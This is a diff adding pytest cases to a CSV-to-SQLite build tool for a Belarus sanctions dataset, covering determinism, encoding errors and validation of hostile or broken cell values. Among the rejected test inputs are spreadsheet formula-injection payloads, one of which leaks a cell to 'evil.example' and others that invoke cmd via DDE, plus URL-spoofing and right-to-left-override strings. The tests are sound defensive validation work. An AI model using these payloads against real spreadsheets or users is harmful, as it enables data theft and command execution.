@@ -87,6 +87,17 @@ def test_build_is_deterministic(tmp_path):
     assert dump(a) == dump(b)
 
 
+def test_one_process_and_two_build_the_same_database(tmp_path, monkeypatch):
+    """The load shared with a second process (then copied in by SQLite) gives the same database as one process:
+    the same tables, rows and indexes (created in another order; the planner's sampled statistics may differ)."""
+    a, b = tmp_path / "a.db", tmp_path / "b.db"
+    build.build(ROOT / "data", a, downloads=False)
+    monkeypatch.setattr(build, "PARALLEL", False)
+    build.build(ROOT / "data", b, downloads=False)
+    dump = lambda p: sorted(line for line in sqlite3.connect(p).iterdump() if "sqlite_stat" not in line)
+    assert dump(a) == dump(b)
+
+
 def test_cli_failure_exit_code_and_message(valid_dir, tmp_path):
     set_cell(valid_dir, "responses.csv", 2, "date", "2021-02-30")
     out = tmp_path / "out.db"
@@ -220,6 +231,64 @@ CASES = {
                              [("responses.csv:2:17:", "is before date 2020-10-02")]),
     "bad language code": (lambda d: set_cell(d, "sources.csv", 2, "language", "english"),
                           [("sources.csv:2:7:", "does not match the pattern")]),
+    # Hostile or broken values (issue 16): each refused with its position and what to do, never a traceback.
+    "URL with an unclosed IPv6 bracket": (lambda d: set_cell(d, "sources.csv", 2, "url", "http://[::1"),
+                                          [("sources.csv:2:2:", "not a valid URL")]),
+    "URL with a backslash before @": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://evil.example\\@good"),
+                                      [("sources.csv:2:2:", "backslash")]),
+    "URL with a port out of range": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://example.org:99999/"),
+                                     [("sources.csv:2:2:", "not a valid URL")]),
+    "URL with a user name": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://good.example@evil.example/"),
+                             [("sources.csv:2:2:", "user name before '@'")]),
+    "30-digit whole number": (lambda d: set_cell(d, "responses.csv", 2, "targets_count", "1" * 30),
+                              [("responses.csv:2:13:", "out of range")]),
+    "30-digit amount": (lambda d: set_cell(d, "responses.csv", 3, "amount", "9" * 30),
+                        [("responses.csv:3:14:", "out of range")]),
+    "data path is a folder": (lambda d: ((d / "triggers.csv").unlink(), (d / "triggers.csv").mkdir()),
+                              [("triggers.csv:1:1:", "is a folder, not a file")]),
+    "table with only its header": (lambda d: edit_rows(d, "designations.csv", lambda rows: rows[:1]),
+                                   [("designations.csv:1:1:", "no rows, only the header")]),
+    "underscores in a number": (lambda d: set_cell(d, "responses.csv", 3, "amount", "1_000"),
+                                [("responses.csv:3:14:", "not a number")]),
+    "underscores in a whole number": (lambda d: set_cell(d, "responses.csv", 2, "targets_count", "4_0"),
+                                      [("responses.csv:2:13:", "not a whole number")]),
+    "Arabic-Indic digits": (lambda d: (set_cell(d, "responses.csv", 2, "targets_count", "٤٠"),
+                                       set_cell(d, "actors.csv", 2, "latitude", "٤٦.٢")),
+                            [("responses.csv:2:13:", "not a whole number"), ("actors.csv:2:12:", "not a number")]),
+    "publication date in the year 1000": (lambda d: set_cell(d, "sources.csv", 2, "published_date", "1000-01-01"),
+                                          [("sources.csv:2:5:", "before 1900")]),
+    "birth date in 2099": (lambda d: set_cell(d, "targets.csv", 2, "date_of_birth", "2099"),
+                           [("targets.csv:2:8:", "in the future")]),
+    "zero-width space": (lambda d: set_cell(d, "responses.csv", 2, "title", "Title\u200bone"),
+                         [("responses.csv:2:6:", "U+200B (ZERO WIDTH SPACE)")]),
+    "right-to-left override in a URL": (lambda d: set_cell(d, "sources.csv", 2, "url", "https://example.org/\u202egpj.exe"),
+                                        [("sources.csv:2:2:", "U+202E (RIGHT-TO-LEFT OVERRIDE)")]),
+    "byte-order mark in the middle of a file": (lambda d: replace_text(d, "actors.csv", "\nxa,", "\n\ufeffxa,"),
+                                                [("actors.csv:4:1:", "byte-order mark in the middle of the file")]),
+    "ANSI escape in a cell": (lambda d: set_cell(d, "responses.csv", 3, "notes", "\x1b[31mA note.\x1b[0m"),
+                              [("responses.csv:3:20:", "U+001B")]),
+    "bell character in a cell": (lambda d: set_cell(d, "triggers.csv", 2, "description", "Something\x07 happened."),
+                                 [("triggers.csv:2:5:", "U+0007")]),
+    "formula in a title": (lambda d: set_cell(d, "responses.csv", 2, "title", '=HYPERLINK("http://evil.example/?leak="&A1,"x")'),
+                           [("responses.csv:2:6:", "a spreadsheet opening the download would run it as a formula")]),
+    "formula in a description": (lambda d: set_cell(d, "responses.csv", 2, "description", "+cmd|' /C calc'!A0"),
+                                 [("responses.csv:2:7:", "starts with '+'")]),
+    "formula starting with @": (lambda d: set_cell(d, "responses.csv", 3, "notes", "@SUM(1+1)*cmd|' /C calc'!A0"),
+                                [("responses.csv:3:20:", "starts with '@'")]),
+    "formula starting with -": (lambda d: set_cell(d, "sources.csv", 2, "title", "-2+3+cmd|' /C calc'!A0"),
+                                [("sources.csv:2:3:", "starts with '-'")]),
+    "formula after a leading tab": (lambda d: set_cell(d, "actors.csv", 2, "name", "\t=1+1"),
+                                    [("actors.csv:2:2:", "starts with '='"), ("actors.csv:2:2:", "spaces or line breaks")]),
+    "formula after a leading carriage return": (lambda d: set_cell(d, "targets.csv", 2, "role", "\r\n=1+1"),
+                                                [("targets.csv:2:7:", "starts with '='")]),
+    "rule: a response answering itself": (lambda d: set_cell(d, "responses.csv", 3, "responds_to_id", "r-three"),
+                                          [("responses.csv:3:19:", "cannot answer itself")]),
+    "rule: an actor its own parent": (lambda d: set_cell(d, "actors.csv", 3, "parent_id", "org-a-body"),
+                                      [("actors.csv:3:9:", "cannot be its own parent")]),
+    "rule: latitude without longitude": (lambda d: set_cell(d, "actors.csv", 2, "longitude", ""),
+                                         [("actors.csv:2:12:", "latitude and longitude go together")]),
+    "rule: precision of a trigger's date": (lambda d: set_cell(d, "triggers.csv", 2, "date_precision", "month"),
+                                            [("triggers.csv:2:4:", "has day precision")]),
     "several problems in several files": (lambda d: (set_cell(d, "responses.csv", 2, "binding", "maybe"),
                                                      set_cell(d, "sources.csv", 3, "url", "ftp://x.org/"),
                                                      set_cell(d, "actors.csv", 2, "name", "")),
@@ -244,6 +313,48 @@ def test_bad_input_is_reported_and_loses_nothing(case, valid_dir, tmp_path, caps
         assert e.split(":")[0].endswith(".csv") and e.split(":")[1].isdigit() and e.split(":")[2].isdigit(), e
     assert sha(out) == before, "a failed build changed the previous database"
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".belarus.db.tmp")] == []
+
+
+def test_windows_1251_file_gets_one_message(valid_dir, tmp_path, capsys):
+    """A file saved as Windows-1251: one message naming the file and the encoding, not one per byte."""
+    out = tmp_path / "belarus.db"
+    set_cell(valid_dir, "responses.csv", 2, "description", "Санкции против должностных лиц режима Лукашенко.")
+    p = valid_dir / "responses.csv"
+    p.write_bytes(p.read_text(encoding="utf-8").encode("cp1251"))
+    code, errors = run_build(valid_dir, out, capsys)
+    mine = [e for e in errors if "responses.csv:" in e]
+    assert code == 1 and len(mine) == 1, errors
+    assert mine[0].startswith(f"{p.relative_to(Path.cwd()) if p.is_relative_to(Path.cwd()) else p}:2:")
+    assert "not UTF-8" in mine[0] and "Windows-1251" in mine[0] and "Save it as UTF-8" in mine[0]
+
+
+def test_an_11_mb_cell_gets_one_message(valid_dir, tmp_path, capsys):
+    set_cell(valid_dir, "responses.csv", 3, "description", "x" * 11_000_000)
+    code, errors = run_build(valid_dir, tmp_path / "o.db", capsys)
+    assert code == 1 and len(errors) == 1, errors[:5]
+    assert "responses.csv:3:7:" in errors[0] and "cell too large: 11,000,000 characters; the limit is 100,000" in errors[0]
+
+
+def test_negative_numbers_and_inner_signs_are_fine(valid_dir, tmp_path, capsys):
+    """Only free text is refused for a leading = + - @: a negative longitude is a number, and signs inside text stay."""
+    set_cells(valid_dir, "actors.csv", 2, latitude="-33.9", longitude="-70.6")
+    set_cell(valid_dir, "responses.csv", 2, "title", "Title = one + two - three @ four")
+    out = tmp_path / "o.db"
+    assert run_build(valid_dir, out, capsys) == (0, [])
+    db = sqlite3.connect(out)
+    assert db.execute("select latitude, longitude from actors where id = 'org-a'").fetchone() == (-33.9, -70.6)
+
+
+def test_a_table_may_be_empty_when_the_package_says_so(valid_dir, tmp_path, capsys):
+    import json
+    pkg = json.loads((ROOT / "datapackage.json").read_text(encoding="utf-8"))
+    next(r for r in pkg["resources"] if r["name"] == "designations")["x_allow_empty"] = True
+    (tmp_path / "datapackage.json").write_text(json.dumps(pkg), encoding="utf-8")
+    edit_rows(valid_dir, "designations.csv", lambda rows: rows[:1])
+    out = tmp_path / "o.db"
+    code = build.main(["--data", str(valid_dir), "--output", str(out), "--datapackage", str(tmp_path / "datapackage.json")])
+    assert code == 0, capsys.readouterr().err
+    assert sqlite3.connect(out).execute("select count(*) from designations").fetchone() == (0,)
 
 
 @pytest.mark.parametrize("how", ["bom", "crlf", "bom+crlf"])
@@ -316,3 +427,20 @@ def test_csvs_to_sqlite_on_same_csvs_agrees(built_db, tmp_path):
         b = sorted(tuple(norm(v) for v in r) for r in theirs.execute(f'select {sel} from "{table}"'))
         assert len(a) == len(b), table
         assert a == b, table
+
+
+def test_rules_name_cells_by_primary_key(valid_dir, tmp_path, capsys, monkeypatch):
+    """rules.py gets locate(table, key, column) -> (file, line, column): right after a multi-line cell, and for a
+    composite key."""
+    import rules
+    set_cell(valid_dir, "responses.csv", 2, "description", "First line.\nSecond line.")  # r-one now spans lines 2-3
+
+    def example_rule(conn, locate):
+        return [build.Problem(*locate("responses", "r-two", "title"), "title: an example rule"),
+                build.Problem(*locate("response_sources", ("r-three", "s-one"), "supports"), "supports: an example rule")]
+    monkeypatch.setattr(rules, "RULES", [example_rule])
+    out = tmp_path / "o.db"
+    code, errors = run_build(valid_dir, out, capsys)
+    assert code == 1 and not out.exists()
+    assert any("responses.csv:5:6: title: an example rule" in e for e in errors), errors
+    assert any("response_sources.csv:3:3: supports: an example rule" in e for e in errors), errors
